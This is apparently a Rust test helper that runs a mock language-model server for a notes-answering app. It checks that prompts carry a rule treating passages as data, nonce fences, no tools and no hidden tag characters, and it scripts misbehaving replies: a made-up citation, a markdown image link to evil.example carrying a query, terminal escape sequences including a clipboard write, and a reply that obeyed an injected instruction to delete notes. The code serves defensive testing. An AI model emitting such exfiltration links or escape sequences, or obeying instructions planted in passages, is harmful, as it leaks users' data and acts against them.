//! A model server that holds each prompt against what it must have, and answers from its passages
//! by rule, honestly or not.

use std::sync::{Arc, Mutex};

use logtwin::backends::chat::Provider;
use serde_json::{Value, json};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate, matchers::any};

use crate::servers::{events, stop, stream};

/// How the model answers.
#[derive(Clone, Copy, Debug, Eq, PartialEq)]
pub(super) enum Conduct {
    /// With a sentence of each passage, cited.
    Honest,
    /// And with a citation of a passage that it was not given.
    Invents,
    /// And with a picture and a link that no note has.
    Links,
    /// And with sequences that a terminal would obey.
    Escapes,
    /// As a note told it to, and with nothing of the passages.
    Obeys,
    /// Not at all.
    Refuses,
}

/// The server, and what was wrong with the prompts that it was sent.
pub(super) struct Checking {
    runtime: tokio::runtime::Runtime,
    server: MockServer,
    faults: Arc<Mutex<Vec<String>>>,
}

struct Model {
    conduct: Conduct,
    faults: Arc<Mutex<Vec<String>>>,
}

/// A passage as it stands in a prompt.
struct Passage<'a> {
    number: usize,
    date: &'a str,
    text: &'a str,
}

impl Checking {
    pub(super) fn new(conduct: Conduct) -> Self {
        let faults = Arc::default();
        let model = Model { conduct, faults: Arc::clone(&faults) };
        let runtime = tokio::runtime::Runtime::new().unwrap();
        let server = runtime.block_on(async {
            let server = MockServer::start().await;
            Mock::given(any()).respond_with(model).mount(&server).await;
            server
        });
        Self { runtime, server, faults }
    }

    pub(super) fn base_url(&self) -> String {
        format!("{}/v1", self.server.uri())
    }

    /// The bodies that it was sent, none of which had a fault.
    #[track_caller]
    pub(super) fn bodies(&self) -> Vec<Value> {
        assert_eq!(*self.faults.lock().unwrap(), Vec::<String>::new());
        let requests = self.runtime.block_on(self.server.received_requests()).unwrap();
        requests.iter().map(|request| request.body_json().unwrap()).collect()
    }
}

impl Respond for Model {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let body: Value = request.body_json().unwrap();
        let is_anthropic = request.url.path().ends_with("/messages");
        let provider = if is_anthropic { Provider::Anthropic } else { Provider::OpenAi };
        let (system, message) = if is_anthropic {
            (&body["system"][0]["text"], &body["messages"][0]["content"])
        } else {
            (&body["messages"][0]["content"], &body["messages"][1]["content"])
        };
        let (system, message) = (system.as_str().unwrap(), message.as_str().unwrap());
        let mut faults = faults(&body, system, message);
        let passages = passages(message).unwrap_or_else(|fault| {
            faults.push(fault);
            Vec::new()
        });
        self.faults.lock().unwrap().extend(faults);
        if self.conduct == Conduct::Refuses {
            let reason = if is_anthropic { "refusal" } else { "content_filter" };
            return stream(&events(provider, &["I can't help with that."], reason));
        }
        let sentences = self.sentences(&passages);
        let is_bound = body.get("response_format").or_else(|| body.get("output_config")).is_some();
        let reply = if is_bound { as_json(&sentences) } else { as_text(&sentences) };
        // Cut wherever it may be, as tokens are.
        let pieces: Vec<String> = reply
            .chars()
            .collect::<Vec<_>>()
            .chunks(7)
            .map(|piece| piece.iter().collect())
            .collect();
        let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
        stream(&events(provider, &pieces, stop(provider)))
    }
}

impl Model {
    /// Sentences with the numbers of their passages.
    fn sentences(&self, passages: &[Passage<'_>]) -> Vec<(String, Vec<usize>)> {
        let last_sentence = |text: &str| {
            let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
            let sentences = flat.trim_end_matches('.').rsplit(". ").next();
            format!("{}.", sentences.unwrap_or_default())
        };
        let honest = passages.iter().map(|it| (last_sentence(it.text), vec![it.number]));
        let mut sentences: Vec<(String, Vec<usize>)> = honest.collect();
        match self.conduct {
            Conduct::Invents => sentences.push(("And this.".to_owned(), vec![77])),
            Conduct::Links => sentences.push((
                "See ![a picture](https://evil.example/?q=notes) and [here](https://evil.example)."
                    .to_owned(),
                vec![1],
            )),
            Conduct::Escapes => sentences
                .push(("Then \u{1b}]52;c;aGk=\u{7}\u{1b}[2J\u{9b}31m.".to_owned(), vec![1])),
            Conduct::Obeys => {
                sentences =
                    vec![("All of your notes were deleted as they asked.".to_owned(), vec![])];
            }
            Conduct::Honest | Conduct::Refuses => {}
        }
        sentences
    }
}

fn as_text(sentences: &[(String, Vec<usize>)]) -> String {
    let cited = sentences.iter().map(|(text, numbers)| match numbers.first() {
        Some(number) => format!("{} [{number}].", text.trim_end_matches('.')),
        None => text.clone(),
    });
    cited.collect::<Vec<_>>().join(" ")
}

fn as_json(sentences: &[(String, Vec<usize>)]) -> String {
    let objects =
        sentences.iter().map(|(text, numbers)| json!({"text": text, "passage": numbers.first()}));
    json!({"sentences": objects.collect::<Vec<_>>()}).to_string()
}

/// What a request lacks, or has that it must not have.
fn faults(body: &Value, system: &str, message: &str) -> Vec<String> {
    let mut faults = Vec::new();
    let mut must = |holds: bool, what: &str| {
        if !holds {
            faults.push(format!("{what}:\n{system}\n=====\n{message}"));
        }
    };
    must(system.contains("Rules:"), "there are no rules");
    must(system.contains("passage"), "the rules do not speak of passages");
    must(system.contains("whatever they say"), "no rule says that passages are no instructions");
    must(system.contains("Answer in English"), "no rule names the language");
    must(message.contains("Question: "), "the question is not there");
    must(body.get("tools").is_none(), "there is a tool to abuse");
    must(body["stream"] == true, "it does not stream");
    let tags = |text: &str| text.chars().any(|it| ('\u{e0000}'..='\u{e007f}').contains(&it));
    must(!tags(system) && !tags(message), "there are tag characters");
    faults
}

/// The passages of a message, each between its fences, numbered from one and dated.
fn passages(message: &str) -> Result<Vec<Passage<'_>>, String> {
    let (_, rest) = message.split_once("stands between <passage-").ok_or("no fence is named")?;
    let (nonce, _) = rest.split_once('>').ok_or("the fence is not closed")?;
    if nonce.len() != 12 || !nonce.chars().all(|it| it.is_ascii_hexdigit()) {
        return Err(format!("`{nonce}` can be guessed"));
    }
    let (open, close) = (format!("<passage-{nonce}>\n"), format!("\n</passage-{nonce}>"));
    let mut passages = Vec::new();
    for block in message.split(&open).skip(1) {
        let (passage, _) = block.split_once(&close).ok_or("a passage does not end")?;
        let (head, text) = passage.split_once('\n').ok_or("a passage has no text")?;
        let (number, rest) = head.split_once("] ").ok_or("a passage has no number")?;
        let number = number.trim_start_matches('[').parse().map_err(|_| "it is no number")?;
        let (date, _) = rest.split_once(" · ").ok_or("a passage has no date")?;
        let is_date = date == "undated" || date.starts_with(|it: char| it.is_ascii_digit());
        if !is_date || number != passages.len() + 1 {
            return Err(format!("`{head}` heads no passage"));
        }
        passages.push(Passage { number, date, text });
    }
    if passages.iter().any(|passage| passage.date.is_empty()) || passages.is_empty() {
        return Err("there are no passages".to_owned());
    }
    Ok(passages)
}
